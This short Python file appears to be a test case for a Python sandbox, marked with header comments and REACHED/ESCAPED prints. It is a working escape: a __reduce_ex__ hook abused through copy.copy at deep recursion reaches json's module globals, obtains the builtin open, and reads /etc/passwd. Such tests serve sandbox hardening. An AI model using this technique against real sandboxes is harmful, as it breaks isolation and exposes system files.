# tries: a class that is made at every depth of the stack
# class: depth
# stops: 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def dig(space):
    print("REACHED")
    builtins = space["__builtins__"]
    return builtins["open"] if type(builtins) is dict else getattr(builtins, "open")


import copy
import json

made = []


def hook(self, protocol):
    return getattr, (json.JSONEncoder.default, "__globals__")


def deep(n):
    try:
        made.append(type("C", (), {"__reduce_ex__": hook}))
    except TypeError:
        pass
    return deep(n + 1)


try:
    deep(0)
except RecursionError:
    pass
use(dig(copy.copy(made[0]())))
